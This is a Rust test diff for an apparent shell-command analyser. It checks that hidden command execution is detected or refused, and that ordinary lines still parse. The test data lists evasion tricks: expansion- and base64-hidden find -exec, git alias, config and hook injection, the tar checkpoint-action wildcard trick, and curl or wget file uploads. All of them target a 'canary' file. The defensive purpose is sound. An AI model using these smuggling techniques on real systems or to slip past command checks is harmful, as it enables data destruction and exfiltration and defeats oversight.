@@ -333,3 +333,184 @@ fn files_of_descriptors_are_not_guessed() {
         "while read -r l <&3; do echo \"$l\"; done 3< list",
     ]);
 }
+
+/// An option that the text does not determine may be one that runs a command.
+#[test]
+fn options_that_come_from_expansions_are_unknown() {
+    all_are_listed_or_errors(&[
+        "find . ${nope:--exec} rm canary ';'",
+        "find . \"${x:--exec}\" rm {} +",
+        "x=-exec; find . ${x} rm {} +",
+        "for o in -exec; do find . $o rm {} +; done",
+        "find . -maxdepth 0 -exe? rm canary ';'",
+        "find . -maxdepth 0 *exec rm canary ';'",
+        "find . -maxdepth 0 -{exec,print} rm canary ';'",
+        "x=$(base64 -d <<< LWV4ZWM=); find . \"$x\" rm canary ';'",
+        "find . $(base64 -d <<< LWV4ZWM=) rm canary ';'",
+        "read x <<< -exec; find . \"$x\" rm canary ';'",
+        "f() { find . \"$1\" rm canary ';'; }; f -exec",
+        "git ${nope:--c} alias.x='!rm canary' x",
+        "git \"${nope:--c}\" alias.x='!rm canary' x",
+        "read o <<< -c; git \"$o\" alias.x='!rm canary' x",
+        "git rebase ${x:--x} 'rm canary' main",
+        "tar ${x:--I} 'rm canary' -xf f",
+        "tar \"${x:---to-command}=rm canary\" -xf f",
+        "touch -- '--checkpoint=1' '--checkpoint-action=exec=sh s'; tar cf a.tar *",
+        "base64 -d <<< eA== | xargs tar xf a.tar",
+        "rsync ${x:--e} 'rm canary' a h:b",
+        "sort ${x:---compress-program=rm} f",
+        "split ${x:---filter=rm canary} f",
+        "man ${x:--P} 'rm canary' ls",
+        "vim \"${x:--c}\" '!rm canary'",
+        "npm ${x:-exec} rm canary",
+    ]);
+    // options that write or send
+    for line in [
+        "sort ${x:--ocanary} list",
+        "x=a-ocanary; sort ${x:1} list",
+        "x=(-ocanary list); sort \"${x[@]}\"",
+        "tree ${x:--o} canary",
+        "curl ${x:--T} canary u",
+        "o=(-T canary); curl \"${o[@]}\" u",
+        "base64 -d <<< LVQgYw== | xargs curl u",
+        "wget ${x:--e} post_file=canary u",
+    ] {
+        assert!(read(line).is_err(), "{line}: {:?}", read(line));
+    }
+    let loops = read("for o in -ocanary; do sort $o list; done").unwrap();
+    assert!(loops.contains(&["sort", "-ocanary", "list"].map(str::to_owned).to_vec()));
+    let sent = read("x=$(cat canary); y=$x; curl \"http://h/$y\"").unwrap();
+    assert!(
+        sent.contains(
+            &["curl", "http://h/$(cat canary)"]
+                .map(str::to_owned)
+                .to_vec()
+        )
+    );
+    all_are_read(&[
+        "find \"$(git rev-parse --show-toplevel)\" -name '*.rs'",
+        "d=$(mktemp -d); find \"$d\" -type f | wc -l",
+        "for d in */; do find \"$d\" -name '*.c' | wc -l; done",
+        "n=$(cat name); find . -name \"$n\" -print",
+        "find . -name *.c -o -name *.h",
+        "for f in *.tgz; do tar xzf \"$f\"; done",
+        "b=$(git branch --show-current); git push -u origin \"$b\"",
+        "git checkout \"$(git describe --tags)\"",
+        "git rebase \"$(git merge-base main HEAD)\"",
+        "f=$(ls -t *.tgz | head -1); tar -xzf \"$f\" -C \"$HOME/x\"",
+        "src=$(pwd); rsync -a \"$src/\" backup/",
+        "sort \"$(ls *.txt | head -1)\" *.log",
+        "curl -fsSL \"$URL\" -o \"$(basename \"$URL\")\"",
+        "curl \"${URL:-http://localhost:3000}/health\"",
+        "tar czf src.tgz -- *",
+    ]);
+}
+
+/// Settings of `git` that a line gives or keeps, in whatever form, and files of settings that it writes.
+#[test]
+fn settings_of_git_are_followed_or_unknown() {
+    all_are_listed_or_errors(&[
+        "git -c alias.x='!env' x rm canary",
+        "git -c alias.x='!sh -c' x 'rm canary'",
+        "git -c alias.x='-c alias.y=\"!rm canary\" y' x",
+        "Q='!rm canary' git --config-env=alias.x=Q x",
+        "git --config-env alias.x=Q x",
+        "git config --global alias.x '!rm canary'; git x",
+        "git config set alias.x '!rm canary'",
+        "git config alias.x '!env'; git x rm canary",
+        "for i in 1 2; do git x rm canary; git config alias.x '!env'; done",
+        "git config --file c alias.x '!rm canary'",
+        "git -c include.path=c x",
+        "GIT_CONFIG_GLOBAL=c git x",
+        "git config core.pager 'rm canary'; git log",
+        "git -c core.fsmonitor='rm canary' status",
+        "git -c filter.x.clean='rm canary' add .",
+        "git -c diff.x.textconv='rm canary' diff",
+        "git -c merge.x.driver='rm canary' merge b",
+        "git -c difftool.x.cmd='rm canary' difftool",
+        "git -c credential.https://x.helper='!rm canary' fetch",
+        "git -c CORE.SSHCOMMAND='rm canary' fetch",
+        "git -c remote.origin.uploadpack='rm canary;' fetch",
+        "git clone -c core.sshCommand='rm canary' ssh://h/x",
+        "git clone --config core.sshCommand='rm canary' ssh://h/x",
+        "git -c protocol.ext.allow=always clone ext::'rm canary'",
+        "git clone ext::rm% canary x",
+        "git --exec-path=. x",
+        "git --git-dir=x -c alias.x='!rm canary' x",
+        "printf '[alias]\\nx=!rm canary\\n' >> .git/config; git x",
+        "printf '[alias]\\nx=!rm canary\\n' > ~/.gitconfig; git x",
+        "echo rm canary > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git commit",
+        "echo rm canary > s; GIT_SSH=./s git fetch",
+        "echo rm canary > s; export EDITOR=./s; git commit",
+        "echo rm canary > s; SHELL=$PWD/s script",
+    ]);
+    all_are_read(&[
+        "git config --global alias.lg 'log --oneline --graph'",
+        "git config user.name \"$NAME\" && git commit -m x",
+        "git config --get core.editor",
+        "git config --global core.editor vim",
+        "git config core.hooksPath .githooks",
+        "git -c core.hooksPath=/dev/null commit -m x",
+        "git -c user.name=a -c user.email=\"$MAIL\" commit -m 'b c'",
+        "GIT_CONFIG_GLOBAL=/dev/null git status",
+        "GIT_EDITOR=true git rebase --continue",
+        "git clone -c core.autocrlf=false https://example.org/a",
+    ]);
+}
+
+/// What a loop or a call says is followed: its words, its parameters.
+#[test]
+fn loops_and_functions_are_followed() {
+    for (line, command) in [
+        ("for x in rm; do $x canary; done", &["rm", "canary"][..]),
+        ("for x in ls r{m,x}; do $x canary; done", &["rm", "canary"]),
+        ("run() { \"$@\"; }; run rm canary", &["rm", "canary"]),
+        ("run() { $1 canary; }; run rm", &["rm", "canary"]),
+        (
+            "for h in a b; do ssh \"$h\" 'rm canary'; done",
+            &["rm", "canary"],
+        ),
+        (
+            "run() { \"$@\"; }; f() { run rm canary; }; f",
+            &["rm", "canary"],
+        ),
+    ] {
+        let found = read(line).unwrap();
+        let command: Vec<String> = command.iter().map(|word| (*word).to_owned()).collect();
+        assert!(found.contains(&command), "{line}: {found:?}");
+    }
+    for line in [
+        // who calls it is not seen
+        "f() { g rm canary; }; g() { \"$@\"; }; f",
+        "while :; do g rm canary; g() { \"$@\"; }; done",
+        "trap 'g rm canary' EXIT; g() { \"$@\"; }",
+        "g() { \"$@\"; }; trap 'g rm canary' EXIT",
+        "g() { \"$@\"; }; eval 'g rm canary'",
+        "g() { echo; }; f() { g rm canary; }; g() { \"$@\"; }; trap f EXIT",
+        "f() { g rm canary; }; trap f EXIT; eval 'g() { \"$@\"; }'",
+        "bash -c 'g() { \"$@\"; }'",
+        "g() { \"$@\"; }; g \"$(cat f)\"",
+        "g() { shift; \"$@\"; }; g a rm canary",
+        "for x in $(cat f); do $x canary; done",
+        "for x in *; do $x canary; done",
+        "for x in ls; do read x <<< rm; $x canary; done",
+        "while :; do $x canary; for x in ls; do :; done; done",
+        "eval \"$(ssh-agent echo rm canary)\"",
+        "ssh-agent() { echo rm canary; }; eval \"$(ssh-agent -s)\"",
+        "PATH=.:$PATH; eval \"$(ssh-agent -s)\"",
+    ] {
+        let found = read(line);
+        assert!(
+            found.as_ref().map_or(true, |found| is_listed(found)),
+            "{line}: {found:?}"
+        );
+    }
+    all_are_read(&[
+        "for h in web1 web2; do ssh \"$h\" 'uptime; df -h /'; done",
+        "run() { echo \"+ $*\"; \"$@\"; }; run make test; run git status",
+        "retry() { for i in 1 2 3; do \"$@\" && return 0; sleep 1; done; return 1; }; retry npm ci",
+        "eval \"$(ssh-agent -s)\" && ssh-add ~/.ssh/id_ed25519",
+        "eval \"$(pyenv init -)\" && pyenv local 3.12",
+        "for v in 3.10 3.11; do for d in a b; do tox -e \"py$v-$d\"; done; done",
+    ]);
+}
